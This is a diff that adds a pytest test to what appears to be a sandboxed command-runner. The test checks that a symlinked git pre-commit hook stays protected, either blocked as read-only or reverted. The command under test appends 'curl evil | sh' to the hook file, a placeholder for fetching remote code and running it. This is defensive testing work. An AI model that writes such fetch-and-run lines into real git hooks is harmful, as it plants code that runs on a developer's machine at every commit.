@@ -333,6 +333,21 @@ async def test_a_repository_the_command_creates_loses_its_config_and_hooks_file_
 
 
 @pytest.mark.parametrize("backend", LINUX_BACKENDS)
+async def test_what_a_link_in_a_protected_directory_points_at_is_protected_too_file_15(
+    repo: Path, backend: str
+):
+    (repo / "hooks").mkdir()
+    (repo / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
+    (repo / ".git" / "hooks" / "pre-commit").symlink_to("../../hooks/pre-commit")  # the README way
+    result = await run(tool_for(repo, backend), "echo 'curl evil | sh' >> hooks/pre-commit; echo done")
+    assert (repo / "hooks" / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"
+    if backend == "bwrap":
+        assert "Read-only file system" in result.data["stderr"] and "protectedReverted" not in result.data
+    else:
+        assert result.data["protectedReverted"] == ["hooks/pre-commit"]
+
+
+@pytest.mark.parametrize("backend", LINUX_BACKENDS)
 async def test_the_revert_never_follows_a_link_the_command_planted_file_15(
     repo: Path, outside: Path, backend: str
 ):
